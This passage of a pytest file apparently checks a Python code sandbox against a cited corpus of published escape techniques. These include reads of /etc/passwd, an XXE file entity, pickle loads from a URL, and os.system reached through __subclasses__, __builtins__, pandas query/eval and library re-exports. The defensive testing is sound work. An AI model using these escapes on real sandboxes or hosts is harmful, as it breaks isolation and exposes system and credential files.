            "import pandas as pd\npd.ExcelFile('/etc/passwd')",
            "PolicyError: pandas.ExcelFile is not available in the sandbox",
        ),
        (
            "numpy-fromregex",
            LIBRARY_IO + " (np.load; adapted: np.fromregex)",
            "import numpy as np\nnp.fromregex('/etc/passwd', r'(.*)', dtype=[('line', 'U200')])",
            "PolicyError: numpy.fromregex reads files or URLs",
        ),
        (
            "svmlight-file",
            LIBRARY_IO + " (adapted: sklearn.datasets.load_svmlight_file)",
            "from sklearn.datasets import load_svmlight_file\nload_svmlight_file('/etc/passwd')",
            "PolicyError: load_svmlight_file reads files or the network",
        ),
        (
            "load-files-of-a-directory",
            LIBRARY_IO + " (adapted: sklearn.datasets.load_files('/etc'))",
            "from sklearn.datasets import load_files\nload_files('/etc')",
            "PolicyError: load_files reads files or the network",
        ),
        (
            "xml-external-entity",
            "PayloadsAllTheThings: XXE Injection/Files/Classic XXE - etc passwd.xml",
            "import pandas as pd\n"
            'pd.read_xml(\'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM '
            '"file:///etc/passwd">]><r><a>&x;</a></r>\')',
            "PolicyError: pandas.read_xml reads files or URLs",
        ),
        (
            "lazy-submodule-scipy-io",
            LIBRARY_IO + " (adapted: scipy.io loaded lazily as an attribute)",
            "import scipy\nscipy.io.loadmat('/etc/passwd')",
            "PolicyError: Module 'scipy.io' is not available in the sandbox",
        ),
        (
            "codecs-open",
            "Skyvern PR #7039 (codecs.open reached from json.dumps' globals)",
            "import codecs\ncodecs.open('/etc/passwd').read()",
            "ImportError: Module 'codecs' is not available in the sandbox",
        ),
        (
            "readline-history-file",
            "CPython issue #115322 (readline.read_history_file opens files without an audit event)",
            "import readline\nreadline.read_history_file('/etc/passwd')\n"
            "readline.get_history_item(1)",
            "ImportError: Module 'readline' is not available in the sandbox",
        ),
        (
            "exit-star-open",
            CHEATSHEET + ": read a file to stderr, exit(*open('flag'))",
            "exit(*open('/etc/passwd'))",
            "PolicyError: exit() is not available in the sandbox",
        ),
        (
            "fullwidth-open",
            "PEP 672 (NFKC identifiers), fullwidth open",
            "\uff4f\uff50\uff45\uff4e('/etc/passwd').read()",
            "PolicyError: open() is not available in the sandbox",
        ),
    ),
]

# --- writes: `{path}` is a host path that must not appear --------------------------------------

WRITES_TABLE = [
    *_family(
        WRITES,
        (
            "to-sql-sqlite-file",
            LIBRARY_IO + " (df.to_csv('/tmp/exfil.csv'); adapted: to_sql with a sqlite URL)",
            _FRAME + "df.to_sql('t', 'sqlite:///{path}')",
            "PolicyError: to_sql() writes files or databases",
        ),
        (
            "to-hdf",
            LIBRARY_IO + " (adapted: to_hdf)",
            _FRAME + "df.to_hdf('{path}', key='k')",
            "PolicyError: to_hdf() writes files or databases",
        ),
        (
            "to-stata",
            LIBRARY_IO + " (adapted: to_stata)",
            _FRAME + "df.to_stata('{path}')",
            "PolicyError: to_stata() writes files or databases",
        ),
        (
            "to-latex-buf",
            LIBRARY_IO + " (adapted: to_latex(buf=))",
            _FRAME + "df.to_latex(buf='{path}')",
            "PolicyError: to_latex() cannot write files",
        ),
        (
            "numpy-savez",
            LIBRARY_IO + " (np.save; adapted: np.savez)",
            "import numpy as np\nnp.savez('{path}', a=np.arange(3))",
            "PolicyError: numpy.savez touches files",
        ),
        (
            "plotly-write-image",
            PATT_SSTI + ": Jinja2 write into remote file (adapted: fig.write_image)",
            "import plotly.express as px\npx.bar(x=[1], y=[2]).write_image('{path}')",
            "PolicyError: fig.write_image() is not available",
        ),
        (
            "dump-svmlight-file",
            LIBRARY_IO + " (adapted: sklearn.datasets.dump_svmlight_file)",
            "import numpy as np\nfrom sklearn.datasets import dump_svmlight_file\n"
            "dump_svmlight_file(np.eye(2), np.arange(2), '{path}')",
            "PolicyError: dump_svmlight_file reads files or the network",
        ),
    ),
]

# --- network: `{url}` is the listener's URL, which must see no connection ---------------------

NETWORK_TABLE = [
    *_family(
        NETWORK,
        (
            "read-pickle-url",
            HACKTRICKS + ": pd.read_pickle('http://0.0.0.0:6334/output.exploit')",
            "import pandas as pd\npd.read_pickle('{url}')",
            "PolicyError: pandas.read_pickle is not available",
        ),
        (
            "query-at-read-pickle-url",
            HACKTRICKS + ": df.query(\"@pd.read_pickle('http://0.0.0.0:6334/output.exploit')\")",
            _FRAME + "df.query(\"@pd.read_pickle('{url}')\")",
            "PolicyError: accepts plain column expressions only",
        ),
        (
            "read-xml-url",
            LIBRARY_IO + " (adapted: pd.read_xml with a URL)",
            "import pandas as pd\npd.read_xml('{url}')",
            "PolicyError: pandas.read_xml reads files or URLs",
        ),
        (
            "read-feather-url",
            LIBRARY_IO + " (adapted: pd.read_feather with a URL)",
            "import pandas as pd\npd.read_feather('{url}')",
            "PolicyError: pandas.read_feather reads files or URLs",
        ),
        (
            "fetch-20newsgroups",
            LIBRARY_IO + " (adapted: a scikit-learn dataset fetcher)",
            "from sklearn.datasets import fetch_20newsgroups\nfetch_20newsgroups(data_home='/tmp')",
            "PolicyError: fetch_20newsgroups reads files or the network",
        ),
    ),
]

# --- processes: `{path}` is the marker file a shell would create -------------------------------

PROCESSES_TABLE = [
    *_family(
        PROCESSES,
        (
            "popen-among-the-subclasses",
            SMOLAGENTS + "test_vulnerability_class_via_subclasses",
            "for cls in ().__class__.__base__.__subclasses__():\n"
            "    if 'Popen' in cls.__class__.__repr__(cls):\n        break\n"
            "cls(['sh', '-c', 'touch {path}']).wait()",
            "PolicyError: is an invalid attribute name",
        ),
        (
            "load-module-os-by-index",
            "CyberArk: Anatomy of an LLM RCE "
            "(().class.base.subclasses()[108].load_module('os')), via HackTricks",
            "().__class__.__base__.__subclasses__()[108].load_module('os').system('touch {path}')",
            "PolicyError: is an invalid attribute name",
        ),
        (
            "builtins-dunder-import",
            HACKTRICKS + ": __builtins__.__import__('os').system('ls')",
            "__builtins__.__import__('os').system('touch {path}')",
            "PolicyError: is an invalid",
        ),
        (
            "loader-posixsubprocess",
            CHEATSHEET + ": bypass audit sandboxes, __loader__.load_module('_posixsubprocess')",
            "__builtins__.__loader__.load_module('_posixsubprocess').fork_exec([b'/bin/sh', "
            "b'-c', b'touch {path}'])",
            "PolicyError: is an invalid",
        ),
        (
            "pkgutil-resolve-name-via-sklearn",
            SUBMODULES + " (adapted: sklearn.utils.discovery re-exports pkgutil)",
            "import sklearn.utils.discovery as d\n"
            "d.pkgutil.resolve_name('os:system')('touch {path}')",
            "PolicyError: Module 'pkgutil' is not available in the sandbox",
        ),
        (
            "pickle-via-sklearn-estimator-checks",
            PATT_PICKLE + " (adapted: sklearn.utils.estimator_checks re-exports pickle)",
            "import sklearn.utils.estimator_checks as ec\n"
            "ec.pickle.loads(b\"cos\\nsystem\\n(S'touch {path}'\\ntR.\")",
            "PolicyError: Module 'pickle' is not available in the sandbox",
        ),
        (
            "os-system-via-plotly-tools",
            HACKTRICKS + ": os.system('ls') (adapted: plotly.tools re-exports os)",
            "import plotly.tools as t\nt.os.system('touch {path}')",
            "PolicyError: Module 'os' is not available in the sandbox",
        ),
        (
            "sys-modules-via-plotly-graph-objects",
            SMOLAGENTS + "test_vulnerability_via_sys (adapted: plotly.graph_objects.sys)",
            "import plotly.graph_objects as go\ngo.sys.modules['os'].system('touch {path}')",
            "PolicyError: Module 'sys' is not available in the sandbox",
        ),
        (
            "timeit-runs-a-string",
            HACKTRICKS + ": eval-ing python code, __import__('timeit').timeit(...)",
            "import timeit\ntimeit.timeit(\"__import__('os').system('touch {path}')\", number=1)",
            "PolicyError: timeit runs functions only in the sandbox",
        ),
        (
            "pdb-os",
            HACKTRICKS + ": command execution libraries, pdb.os.system('ls')",
            "import pdb\npdb.os.system('touch {path}')",
            "ImportError: Module 'pdb' is not available in the sandbox",
        ),
        (
            "pty-spawn",
            HACKTRICKS + ": command execution libraries, pty.spawn('ls')",
            "import pty\npty.spawn(['sh', '-c', 'touch {path}'])",
            "ImportError: Module 'pty' is not available in the sandbox",
        ),
        (
            "query-at-builtins-import",
            HACKTRICKS + ': df.query(\'@__builtins__.__import__("os").system("ls")\')',
            _FRAME + 'df.query(\'@__builtins__.__import__("os").system("touch {path}")\')',
            "PolicyError: accepts plain column expressions only",
        ),
        (
            "query-at-compat-os",
            "pandas PR #58697 (@pd.compat.os.system('whoami') in DataFrame.query)",
            _FRAME + "df.query(\"@pd.compat.os.system('touch {path}')\")",
            "PolicyError: accepts plain column expressions only",
        ),
        (
            "query-at-core-frame-builtins",
            "pandas issue #60602 (@pd.core.frame.com.builtins.__import__('os').system(...))",
            _FRAME + 'df.query(\'@pd.core.frame.com.builtins.__import__("os").system("touch '
            "{path}\")')",
            "PolicyError: accepts plain column expressions only",
        ),
        (
            "query-exec-builtins",
            "llama_index issue #22232 (df.query(\"exec('__builtins__[...]...')\"))",
            _FRAME + 'q = """exec(\'__import__("os").system("touch {path}")\')"""\ndf.query(q)',
            "PolicyError: accepts plain column expressions only",
        ),
        (
            "pandas-eval-from-import",
            "Checkmarx: The Glass Sandbox (pandas.eval); pandas PR #59108",
            "from pandas import eval as pd_eval\n"
            "pd_eval(\"pd.io.common.os.system('touch {path}')\")",
            "PolicyError: pandas.eval is not available",
        ),
    ),
]

CORPUS = [*LANGUAGE, *READS_TABLE, *WRITES_TABLE, *NETWORK_TABLE, *PROCESSES_TABLE]


def _params(table: list[Technique]) -> list[Any]:
    return [
        pytest.param(
            t,
            id=t.id,
            marks=[pytest.mark.xfail(strict=True, reason=f"OPEN HOLE: {t.hole}")] if t.hole else [],
        )
        for t in table
    ]


def _refused(result: dict[str, Any], technique: Technique) -> None:
    """Refused as the technique's case says, and nothing secret in the result."""
    text = json.dumps(result)
    for marker in SECRET_MARKERS:
        assert marker not in text, f"{technique.id}: a secret reached the result"
    assert PASSWD_SENTINEL not in text, f"{technique.id}: /etc/passwd reached the result"
    try:
        refused(result, technique.kind, technique.fragment)
    except AssertionError as exc:
        raise AssertionError(f"{technique.id} ({technique.source}) was not refused: {exc}") from exc


def test_the_corpus_is_cited_and_covers_every_family() -> None:
    ids = [t.id for t in CORPUS]
    assert len(ids) == len(set(ids))
    assert len(CORPUS) >= 80
    assert all(t.source.strip() and t.fragment for t in CORPUS)
    assert len({t.family for t in CORPUS}) == 21


@pytest.mark.parametrize("technique", _params(LANGUAGE))
def test_a_published_technique_is_refused(sandbox: Sandbox, technique: Technique) -> None:
    _refused(sandbox.run(technique.code), technique)


@pytest.mark.parametrize("technique", _params(READS_TABLE))
def test_a_published_file_read_is_refused_and_reads_nothing(
    sandbox: Sandbox, technique: Technique
) -> None:
    result = sandbox.run(technique.code)
    _refused(result, technique)
    assert "root:" not in result["stdout"]


@pytest.mark.parametrize("technique", _params(WRITES_TABLE))
def test_a_published_file_write_is_refused_and_the_host_path_stays_absent(
    sandbox: Sandbox, host_path: Path, technique: Technique
) -> None:
    result = sandbox.run(technique.code.replace("{path}", str(host_path)))
    _refused(result, technique)
    assert not host_path.exists()


@pytest.mark.parametrize("technique", _params(NETWORK_TABLE))
def test_a_published_network_route_is_refused_and_the_listener_sees_nothing(
    sandbox: Sandbox, listener: Listener, technique: Technique
) -> None:
    code = technique.code.replace("{url}", listener.url).replace("{port}", str(listener.port))
    _refused(sandbox.run(code), technique)
    time.sleep(0.2)  # a connection under way would be counted by now
    assert listener.connections == 0


@pytest.mark.parametrize("technique", _params(PROCESSES_TABLE))
def test_a_published_process_route_is_refused_and_no_marker_appears(
    sandbox: Sandbox, host_path: Path, technique: Technique
) -> None:
    result = sandbox.run(technique.code.replace("{path}", str(host_path)))
    _refused(result, technique)
    assert not host_path.exists()
